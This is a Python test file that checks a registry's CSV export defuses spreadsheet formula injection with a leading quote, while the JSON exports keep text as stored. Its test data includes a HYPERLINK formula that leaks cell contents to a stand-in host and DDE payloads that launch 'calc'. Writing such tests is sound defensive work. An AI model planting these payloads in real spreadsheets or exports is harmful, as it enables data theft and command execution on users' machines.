"""CSV cells a spreadsheet would run as formulas are neutralised (issue 12, item 8).

The bad-input catalogue's rows for formula injection: text that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written to the CSV export with a single quote
before it (OWASP's rule), and only there: JSON and NDJSON carry the text as stored, and
numbers (a negative latitude) stay numbers. Through the HTTP API.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import httpx
import pytest

from netregistry.exports.service import neutralise_formula
from tests.registry import builders

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _tables(content: bytes) -> dict[str, list[dict[str, str]]]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    tables = {}
    for name in ("networks", "members", "memberships"):
        with archive.open(f"{name}.csv") as raw:
            tables[name] = list(csv.DictReader(io.TextIOWrapper(raw, encoding="utf-8", newline="")))
    return tables


async def _hostile_registry(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> list[dict[str, Any]]:
    await builders.network(client, admin_headers, "citynet")
    cities = []
    for number, formula in enumerate(FORMULAS):
        city = await builders.city(
            client,
            admin_headers,
            formula,
            alt_names=[formula],
            latitude=-33.5 - number,
            longitude=-70.5,
        )
        cities.append(city)
        response = await client.post(
            "/v1/networks/citynet/memberships",
            json={"member_id": city["id"], "category": "full", "note": formula},
            headers=admin_headers,
        )
        assert response.status_code == 201, response.text
    return cities


async def test_csv_cells_beginning_with_a_formula_character_get_a_leading_quote(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    await _hostile_registry(client, admin_headers)

    response = await client.get("/v1/export", params={"format": "csv"})
    assert response.status_code == 200
    tables = _tables(response.content)

    names = sorted(row["name"] for row in tables["members"])
    assert names == sorted("'" + formula for formula in FORMULAS)
    assert sorted(row["member_name"] for row in tables["memberships"]) == names
    assert sorted(row["note"] for row in tables["memberships"]) == names
    # Lists are JSON text (they begin with "["), numbers are numbers: both as they were.
    assert sorted(json.loads(row["alt_names"])[0] for row in tables["members"]) == sorted(FORMULAS)
    assert sorted(float(row["latitude"]) for row in tables["members"]) == [
        -36.5,
        -35.5,
        -34.5,
        -33.5,
    ]
    for table in tables.values():
        for row in table:
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
                assert not value.startswith("-") or float(value) < 0, value


async def test_json_and_ndjson_exports_keep_the_text_as_stored(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    await _hostile_registry(client, admin_headers)

    document = (await client.get("/v1/export", params={"format": "json"})).json()
    lines = (await client.get("/v1/export", params={"format": "ndjson"})).text.splitlines()
    records = [json.loads(line) for line in lines]

    assert sorted(member["name"] for member in document["members"]) == sorted(FORMULAS)
    assert sorted(m["note"] for m in document["memberships"]) == sorted(FORMULAS)
    assert sorted(r["name"] for r in records if r["type"] == "member") == sorted(FORMULAS)


async def test_the_datapackage_says_how_cells_are_neutralised(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    await builders.network(client, admin_headers, "citynet")

    response = await client.get("/v1/networks/citynet/export", params={"format": "csv"})
    package = json.loads(zipfile.ZipFile(io.BytesIO(response.content)).read("datapackage.json"))

    assert "single quote" in package["description"]
    assert "OWASP" in package["description"]


async def test_text_that_only_contains_formula_characters_later_is_left_alone(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    await builders.city(client, admin_headers, "Saint-Étienne", "FR")
    await builders.city(client, admin_headers, "'s-Hertogenbosch", "NL")

    tables = _tables((await client.get("/v1/export", params={"format": "csv"})).content)

    assert sorted(row["name"] for row in tables["members"]) == ["'s-Hertogenbosch", "Saint-Étienne"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Seoul", "Seoul"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_formula_follows_owasp(text: str, cell: str) -> None:
    # The rule covers every text cell, whatever the input rules let in (a tab or a carriage
    # return may be refused in names on the way in, not necessarily in every text field).
    assert neutralise_formula(text) == cell
